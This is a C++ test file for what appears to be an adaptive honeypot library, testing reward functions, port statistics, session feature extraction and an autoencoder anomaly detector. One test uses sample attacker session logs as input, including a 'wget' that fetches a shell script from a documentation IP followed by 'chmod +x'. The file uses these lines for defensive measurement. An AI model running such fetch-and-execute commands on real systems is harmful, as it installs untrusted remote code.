#include "catch_amalgamated.hpp"

#include <cmath>
#include <sstream>

#include "adlah/valuation.hpp"

using namespace adlah;

TEST_CASE("deploy_reward") {
    RewardConfig cfg;  // alpha 1, l_bar 10, l_max 5, delta 0.1

    CHECK(deploy_reward(20, cfg) == Catch::Approx(2.0));
    CHECK(deploy_reward(1000, cfg) == Catch::Approx(5.0));  // cap
    CHECK(deploy_reward(0, cfg) == Catch::Approx(-0.1));
    CHECK_THROWS_AS(deploy_reward(-1, cfg), ValidationError);

    SECTION("non-decreasing in L and bounded by alpha*l_max") {
        double prev = -1e9;
        for (std::int64_t L = 0; L <= 10000; ++L) {
            const double r = deploy_reward(L, cfg);
            CHECK(r >= prev);
            CHECK(r <= cfg.alpha * cfg.l_max + 1e-12);
            prev = r;
        }
    }
}

TEST_CASE("trimmed mean") {
    SECTION("worked example: (0,0.5,0.5,0.5,100) -> 0.5") {
        CHECK(trimmed_mean({0.0, 0.5, 0.5, 0.5, 100.0}) == Catch::Approx(0.5));
    }
    SECTION("permutation invariance") {
        std::vector<double> v = {3.0, 1.0, 4.0, 1.0, 5.0, 9.0, 2.0, 6.0};
        const double ref = trimmed_mean(v);
        Rng rng(1);
        for (int it = 0; it < 30; ++it) {
            for (std::size_t i = v.size() - 1; i > 0; --i)
                std::swap(v[i], v[rng.uniform_int(i + 1)]);
            CHECK(trimmed_mean(v) == Catch::Approx(ref));
        }
    }
    SECTION("bounded by min and max of inputs") {
        Rng rng(2);
        for (int it = 0; it < 100; ++it) {
            std::vector<double> v(1 + rng.uniform_int(20));
            for (auto& x : v) x = rng.uniform(-10, 10);
            const double m = trimmed_mean(v);
            CHECK(m >= *std::min_element(v.begin(), v.end()) - 1e-12);
            CHECK(m <= *std::max_element(v.begin(), v.end()) + 1e-12);
        }
    }
    SECTION("degenerate sizes") {
        CHECK(trimmed_mean({}) == 0.0);
        CHECK(trimmed_mean({7.0}) == 7.0);
        CHECK(trimmed_mean({1.0, 3.0}) == 2.0);
    }
}

TEST_CASE("quality_reward") {
    RewardConfig cfg;

    SECTION("beta=0 reduces exactly to deploy_reward, all L") {
        for (std::int64_t L = 0; L <= 10000; ++L)
            CHECK(quality_reward(L, {}, cfg) == deploy_reward(L, cfg));
    }
    SECTION("worked example 2.0 + 0.4 = 2.4") {
        RewardConfig q = cfg;
        q.beta = 0.5;
        q.a_max = 1.0;
        CHECK(quality_reward(20, {0.8, 0.8, 0.8}, q) == Catch::Approx(2.4));
    }
    SECTION("anomaly contribution is capped at a_max") {
        RewardConfig q = cfg;
        q.beta = 1.0;
        q.a_max = 0.5;
        CHECK(quality_reward(20, {10.0, 10.0, 10.0}, q) == Catch::Approx(2.0 + 0.5));
    }
    SECTION("eq2 mode: (1 + omega*clip(Agg,0,1))*L - lambda*cost") {
        RewardConfig q = cfg;
        q.omega = 0.5;
        q.lambda_cost = 0.2;
        CHECK(quality_reward(30, {0.4, 0.4}, q, QualityMode::eq2, 10.0) ==
              Catch::Approx((1.0 + 0.5 * 0.4) * 30.0 - 0.2 * 10.0));
        // omega=0, lambda=0 reduces to the raw log count
        RewardConfig base = cfg;
        for (std::int64_t L = 0; L <= 1000; ++L)
            CHECK(quality_reward(L, {}, base, QualityMode::eq2, 123.0) == double(L));
    }
    SECTION("negative or non-finite scores are rejected") {
        CHECK_THROWS_AS(quality_reward(5, {-0.1}, cfg), ValidationError);
        CHECK_THROWS_AS(quality_reward(5, {std::nan("")}, cfg), ValidationError);
    }
}

TEST_CASE("terminal penalties") {
    RewardConfig cfg;
    CHECK(terminal_penalty(TerminalKind::inactivity_timeout, cfg) == Catch::Approx(-0.05));
    CHECK(terminal_penalty(TerminalKind::resource_skip, cfg) == Catch::Approx(-0.05));

    RewardConfig zero = cfg;
    zero.skip_penalty = 0.0;
    zero.timeout_penalty = 0.0;
    CHECK(terminal_penalty(TerminalKind::inactivity_timeout, zero) == 0.0);
    CHECK(terminal_penalty(TerminalKind::resource_skip, zero) == 0.0);
}

TEST_CASE("rolling l_bar per port") {
    RollingLbar lbar(3);
    CHECK(lbar.l_bar(22, 10.0) == 10.0);  // fallback when empty
    lbar.record(22, 4);
    lbar.record(22, 8);
    CHECK(lbar.l_bar(22, 10.0) == Catch::Approx(6.0));
    lbar.record(22, 100);
    lbar.record(22, 102);  // window 3 drops the 4
    CHECK(lbar.l_bar(22, 10.0) == Catch::Approx(100.0));
    CHECK(lbar.l_bar(23, 7.0) == 7.0);  // ports are independent
}

TEST_CASE("session feature vector") {
    std::vector<InteractionLog> logs = {
        {100, "1.1.1.1", "uname -a"},
        {160, "1.1.1.1", "wget http://203.0.113.1/x.sh"},
        {220, "1.1.1.1", "chmod +x x.sh"},
        {220, "1.1.1.1", "chmod +x x.sh"},
    };
    const SessionFeatureVector f = build_session_features(logs);
    CHECK(f[0] == Catch::Approx(4.0 / 50.0));   // command count
    CHECK(f[1] == Catch::Approx(3.0 / 50.0));   // distinct commands
    CHECK(f[2] == Catch::Approx(120.0 / 3600.0));  // duration
    CHECK(f[3] == Catch::Approx(1.0 / 10.0));   // downloads
    CHECK(f[6] == Catch::Approx(0.75));         // coverage = distinct/total
    CHECK(f[7] == 0.0);                         // no error markers
    for (double v : f) CHECK(std::isfinite(v));

    const SessionFeatureVector empty = build_session_features({});
    for (double v : empty) CHECK(v == 0.0);
}

TEST_CASE("anomaly score is the mean squared reconstruction error") {
    Autoencoder model(1);

    SECTION("matches an elementwise oracle for random inputs") {
        Rng rng(4);
        for (int it = 0; it < 50; ++it) {
            SessionFeatureVector x{};
            for (auto& v : x) v = rng.uniform(-1, 1);
            const auto y = model.reconstruct(x);
            double oracle = 0.0;
            for (int j = 0; j < kSessionFeatureDim; ++j)
                oracle += (x[j] - y[j]) * (x[j] - y[j]);
            oracle /= kSessionFeatureDim;
            CHECK(model.anomaly_score(x) == Catch::Approx(oracle).margin(1e-12));
        }
    }

    SECTION("zero iff exact reconstruction") {
        // zero everything: encoder output tanh(0)=0, decoder 0 -> reconstructs 0
        Autoencoder zeroed(1);
        for (auto& w : zeroed.encoder().weights()) w = 0.0;
        for (auto& b : zeroed.encoder().bias()) b = 0.0;
        for (auto& w : zeroed.decoder().weights()) w = 0.0;
        for (auto& b : zeroed.decoder().bias()) b = 0.0;
        SessionFeatureVector zero{};
        CHECK(zeroed.anomaly_score(zero) == 0.0);

        SessionFeatureVector x{};
        x[2] = 0.7;
        CHECK(zeroed.anomaly_score(x) > 0.0);
    }

    SECTION("non-finite input is rejected") {
        SessionFeatureVector x{};
        x[0] = std::numeric_limits<double>::infinity();
        CHECK_THROWS_AS(model.anomaly_score(x), ValidationError);
    }
}

TEST_CASE("online_update drives the reconstruction error down") {
    Autoencoder model(7);
    SessionFeatureVector x = {0.2, 0.4, 0.1, 0.0, 0.3, 0.9, 0.75, 0.0};

    SECTION("5000 presentations: window means decrease until below 1e-3") {
        std::vector<double> window_means;
        double acc = 0.0;
        for (int step = 0; step < 5000; ++step) {
            acc += model.anomaly_score(x);
            model.online_update(x);
            if ((step + 1) % 100 == 0) {
                window_means.push_back(acc / 100.0);
                acc = 0.0;
            }
        }
        // the contract promises strict decrease until the 1e-3 floor; after
        // that the optimizer may jitter at noise level
        for (std::size_t i = 1; i < window_means.size(); ++i) {
            if (window_means[i - 1] < 1e-3) break;
            CHECK(window_means[i] < window_means[i - 1]);
        }
        CHECK(model.anomaly_score(x) < 1e-3);
    }

    SECTION("zero vector on a zeroed model is a no-op") {
        Autoencoder zeroed(1);
        for (auto& w : zeroed.encoder().weights()) w = 0.0;
        for (auto& b : zeroed.encoder().bias()) b = 0.0;
        for (auto& w : zeroed.decoder().weights()) w = 0.0;
        for (auto& b : zeroed.decoder().bias()) b = 0.0;
        SessionFeatureVector zero{};
        REQUIRE(zeroed.anomaly_score(zero) == 0.0);
        zeroed.online_update(zero);
        CHECK(zeroed.anomaly_score(zero) == 0.0);
        for (double w : zeroed.decoder().weights()) CHECK(w == 0.0);
    }
}

TEST_CASE("trained model flags a far outlier above the 95th percentile") {
    Autoencoder model(3);
    Rng rng(6);
    // two synthetic "normal" clusters
    auto sample = [&](double cx) {
        SessionFeatureVector x{};
        for (auto& v : x) v = cx + rng.uniform(-0.05, 0.05);
        return x;
    };
    std::vector<SessionFeatureVector> train;
    for (int i = 0; i < 400; ++i) train.push_back(sample(i % 2 ? 0.2 : 0.8));
    for (int epoch = 0; epoch < 5; ++epoch)
        for (const auto& x : train) model.online_update(x);

    std::vector<double> scores;
    for (const auto& x : train) scores.push_back(model.anomaly_score(x));
    std::sort(scores.begin(), scores.end());
    const double p95 = scores[std::size_t(0.95 * double(scores.size()))];

    SessionFeatureVector outlier{};
    for (auto& v : outlier) v = -3.0;
    CHECK(model.anomaly_score(outlier) > p95);
}

TEST_CASE("autoencoder checkpoint round-trip") {
    Autoencoder model(9);
    SessionFeatureVector x = {0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8};
    for (int i = 0; i < 50; ++i) model.online_update(x);

    std::stringstream ss;
    model.save(ss);
    Autoencoder back = Autoencoder::load(ss);
    CHECK(back.anomaly_score(x) == model.anomaly_score(x));
    // updates continue identically
    back.online_update(x);
    model.online_update(x);
    CHECK(back.anomaly_score(x) == model.anomaly_score(x));
}
